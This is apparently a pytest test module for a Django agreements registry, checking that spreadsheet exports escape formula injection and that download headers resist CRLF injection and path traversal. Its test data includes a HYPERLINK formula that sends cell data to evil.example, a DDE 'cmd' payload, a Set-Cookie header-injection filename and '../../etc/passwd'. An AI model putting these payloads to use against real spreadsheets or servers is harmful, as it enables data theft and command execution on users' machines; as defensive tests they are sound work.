"""Nothing a user types becomes a formula in a spreadsheet the application writes, or breaks out of a
Content-Disposition header (decision 0052).

Spreadsheets are read back the way a user's program reads them: CSV with the csv module, XLSX with
openpyxl, where a formula cell has data_type "f".
"""

import csv
import datetime
import io
from decimal import Decimal
from urllib.parse import unquote

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from openpyxl import load_workbook

from agreements.choices import DocumentType, Stage, Visibility
from agreements.imports.services import import_run
from agreements.imports.template import template_xlsx
from agreements.services import document_upload
from core.exports import csv_cell, csv_row, xlsx_cell
from core.headers import content_disposition, header_safe
from jobs.choices import JobKind, JobStatus
from jobs.models import BackgroundJob
from jobs.reports import report_make
from registry.models import Partner
from tests.agreements.factories import AgreementFactory, AgreementPartyFactory
from tests.portal.files import minimal_pdf
from tests.registry.factories import OrganisationUnitFactory, PartnerFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
FORMULAS = [EVIL, "=1+1", "+62 812", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
NASTY_NAME = 'Laporan "Triwulan"\r\nSet-Cookie: x=1; Ümit — naskah.pdf'


def _disposition(value: str) -> tuple[str, dict]:
    """(type, {"filename": the quoted fallback, "filename*": the decoded RFC 5987 name}); by hand, since
    Django's parser folds the two into one."""
    assert "\r" not in value and "\n" not in value
    kind, *parts = value.split("; ")
    params = {}
    for part in parts:
        key, _eq, raw = part.partition("=")
        if key == "filename":
            assert raw.startswith('"') and raw.endswith('"') and '"' not in raw[1:-1]
            params[key] = raw[1:-1]
        elif key == "filename*":
            charset, _empty, encoded = raw.split("'", 2)
            assert charset == "UTF-8" and not set(encoded) & set('"; \r\n')
            params[key] = unquote(encoded, encoding="utf-8", errors="strict")
        else:
            raise AssertionError(f"unexpected parameter {part!r}")
    return kind, params


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


# --- the cell helpers -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text
    assert xlsx_cell(text) == "'" + text


def test_numbers_dates_and_plain_text_keep_their_type():
    assert csv_row([-5, Decimal("-1.50"), 2.5, True, None, datetime.date(2026, 1, 2), "Pasar -2"]) == [
        "-5",
        "-1.50",
        "2.5",
        "ya",
        "",
        "2026-01-02",
        "Pasar -2",
    ]
    assert xlsx_cell(-5) == -5
    assert xlsx_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert xlsx_cell(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)


# --- every spreadsheet the application writes ------------------------------------------------------


def _public_agreement(title, **extra):
    agreement = AgreementFactory(title=title, is_public=True, stage=Stage.IMPLEMENTATION, **extra)
    AgreementPartyFactory(agreement=agreement, partner=PartnerFactory(name="=1+1"), order=1)
    return agreement


def test_public_register_csv_writes_a_formula_title_as_text(client):
    _public_agreement(EVIL, estimated_value=Decimal("250000"))
    rows = _csv(client.get(reverse("public:download_csv")))
    header, row = rows[0], rows[1]
    title = row[header.index("Judul")]
    assert title == "'" + EVIL
    assert row[header.index("Para pihak")] == "'=1+1"
    assert row[header.index("Perkiraan nilai (Rp)")] == "250000.00"


def test_public_register_xlsx_writes_a_formula_title_as_text(client):
    _public_agreement(EVIL, estimated_value=Decimal("250000"))
    cells = _xlsx_cells(client.get(reverse("public:download_xlsx")).content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + EVIL in values and "'=1+1" in values
    assert 250000 in values  # the value is still a number


def test_staff_agreement_export_writes_formulas_as_text_in_csv_and_xlsx(client, staff_user):
    AgreementFactory(title=EVIL, estimated_value=Decimal("10"))
    client.force_login(staff_user)
    rows = _csv(client.get(reverse("agreements:export"), {"format": "csv"}))
    assert "'" + EVIL in rows[1]

    response = client.get(reverse("agreements:export"), {"format": "xlsx"})
    cells = _xlsx_cells(response.content)
    title = next(c for c in cells if isinstance(c.value, str) and EVIL in c.value)
    assert title.data_type != "f" and title.value == "'" + EVIL
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert 10 in [c.value for c in cells]  # the value is still a number


def test_partner_export_xlsx_has_no_formula_cells(client, staff_user):
    PartnerFactory(name="=1+1", npwp="-01.2")
    client.force_login(staff_user)
    cells = _xlsx_cells(client.get(reverse("registry:partner_export"), {"format": "xlsx"}).content)
    values = [c.value for c in cells]
    assert "'=1+1" in values and "'-01.2" in values
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_report_xlsx_writes_a_formula_unit_name_as_text(staff_user):
    unit = OrganisationUnitFactory(name="=cmd|' /C calc'!A0")
    AgreementFactory(lead_unit=unit, estimated_value=Decimal("1000"))
    content, name = report_make(JobKind.REPORT_PORTFOLIO, staff_user, {"format": "xlsx"})
    assert name.endswith(".xlsx")
    cells = _xlsx_cells(content)
    assert "'=cmd|' /C calc'!A0" in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_import_template_has_no_formula_cells():
    assert not [c.coordinate for c in _xlsx_cells(template_xlsx()) if c.data_type == "f"]


def test_import_stores_a_partner_name_as_typed_and_exports_neutralise_it(client, staff_user):
    text = (
        "nama;nama_singkat;sektor;jenis;nib;npwp;alamat;email;telepon\n=1+1;;swasta;Badan Usaha Swasta;;;;;\n"
    )
    result = import_run("mitra.csv", text.encode(), staff_user, dry_run=False)
    assert result.ok, [str(p.message) for p in result.problems]
    assert Partner.objects.filter(name="=1+1").exists()  # the data is kept as typed
    client.force_login(staff_user)
    rows = _csv(client.get(reverse("registry:partner_export"), {"format": "csv"}))
    assert [row[0] for row in rows[1:] if "1+1" in row[0]] == ["'=1+1"]


# --- Content-Disposition ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        NASTY_NAME,
        'a";b=c\\.pdf',
        "日本語の文書.pdf",
        "../../etc/passwd",
        "x" * 400 + ".pdf",
        "\r\n",
        "",
    ],
)
def test_content_disposition_cannot_be_broken_out_of(name):
    disposition, params = _disposition(content_disposition(name))
    assert disposition == "attachment"
    fallback = params["filename"]
    assert fallback.isascii() and not set(fallback) & set('"\\;/\r\n')
    shown = params.get("filename*", fallback)
    assert "/" not in shown and "\r" not in shown and "\n" not in shown
    assert len(shown) <= 150
    if name.endswith(".pdf"):
        assert shown.endswith(".pdf") and fallback.endswith(".pdf")


def test_content_disposition_keeps_a_plain_name_and_the_non_ascii_one_in_filename_star():
    assert content_disposition("kerja-sama.csv") == 'attachment; filename="kerja-sama.csv"'
    assert content_disposition("kemitraan.ics", attachment=False) == 'inline; filename="kemitraan.ics"'
    _disposition_, params = _disposition(content_disposition(NASTY_NAME))
    assert params["filename*"] == header_safe(NASTY_NAME)
    assert params["filename"] == "Laporan _Triwulan_ Set-Cookie_ x=1_ Umit  naskah.pdf"


def test_document_download_header_from_a_nasty_uploaded_name(client, staff_user):
    agreement = AgreementFactory()
    document = document_upload(
        agreement=agreement,
        actor=staff_user,
        upload=ContentFile(minimal_pdf("isi"), name=NASTY_NAME),
        title="Dokumen",
        doc_type=DocumentType.OTHER,
        visibility=Visibility.INTERNAL,
    )
    client.force_login(staff_user)
    response = client.get(reverse("agreements:document_download", args=[document.pk]))
    assert response.status_code == 200
    assert "Set-Cookie" not in response.cookies
    disposition, params = _disposition(response["Content-Disposition"])
    assert disposition == "attachment"
    assert params["filename*"].endswith(".pdf") and "\n" not in params["filename*"]
    assert params["filename"].isascii() and '"' not in params["filename"]


def test_report_download_header_from_a_nasty_result_name(client, staff_user):
    job = BackgroundJob(
        kind=JobKind.REPORT_PORTFOLIO, requested_by=staff_user, status=JobStatus.DONE, result_name=NASTY_NAME
    )
    job.result_file.save("hasil.pdf", ContentFile(minimal_pdf("hasil")), save=True)
    client.force_login(staff_user)
    response = client.get(reverse("jobs:download", args=[job.pk]))
    assert response.status_code == 200
    disposition, params = _disposition(response["Content-Disposition"])
    assert disposition == "attachment" and params["filename*"] == header_safe(NASTY_NAME)


@pytest.mark.parametrize(
    ("url_name", "expected"),
    [
        ("public:download_csv", 'attachment; filename="kerja-sama-publik.csv"'),
        ("public:download_xlsx", 'attachment; filename="kerja-sama-publik.xlsx"'),
        ("public:download_json", 'attachment; filename="kerja-sama-publik.json"'),
        ("public:ocds_record_package", 'inline; filename="record-package.json"'),
    ],
)
def test_fixed_download_names(client, url_name, expected):
    assert client.get(reverse(url_name))["Content-Disposition"] == expected
